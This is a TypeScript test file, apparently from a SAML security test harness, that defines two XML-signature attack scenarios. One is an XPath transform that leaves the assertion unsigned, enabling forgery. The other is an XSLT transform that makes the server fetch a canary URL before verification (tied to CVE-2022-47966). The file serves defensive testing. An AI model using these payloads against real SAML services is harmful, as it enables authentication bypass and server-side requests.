import type { Scenario } from '../../../harness/model/scenario.ts';
import { impact } from '../../builders/impact.ts';
import { aCanary } from '../../builders/needs.ts';
import { element } from '../../builders/xml.ts';
import { canonicalized, enveloped, signature, transform, transformed, uncovered } from './parts.ts';

const xpath = transform(
  'http://www.w3.org/TR/1999/REC-xpath-19991116',
  element('ds:XPath', {}, 'not(ancestor-or-self::node())'),
);

/** Transforms beside those that SAML has (SAML Core §5.4.4). */
export const transforms: readonly Scenario[] = impact('forgery', { family: { 'xml-coverage': ['transform-xpath'] } })([
  signature(
    'transform-xpath',
    'A transform leaves nothing of the assertion to be covered',
    uncovered,
    () => ({
      signature: { signedInfo: transformed(enveloped, xpath, canonicalized), digested: () => '' },
    }),
    { together: 'the digest is that of what the transform leaves' },
  ),
  signature(
    'transform-xslt',
    'A stranger signs, and a transform is a program that fetches something',
    'whoever sends an assertion runs programs on the server before anything is verified',
    ({ canary }) => ({
      signature: {
        signedInfo: transformed(
          enveloped,
          transform(
            'http://www.w3.org/TR/1999/REC-xslt-19991116',
            element(
              'xsl:stylesheet',
              { 'xmlns:xsl': 'http://www.w3.org/1999/XSL/Transform', version: '1.0' },
              element(
                'xsl:template',
                { match: '/' },
                element('xsl:copy-of', { select: `document('${canary}/transform.xml')` }),
              ),
            ),
          ),
          canonicalized,
        ),
      },
      signing: { by: 'stranger' },
    }),
    { needs: [aCanary], cve: ['CVE-2022-47966'], together: 'a stranger has no other way in' },
  ),
]);
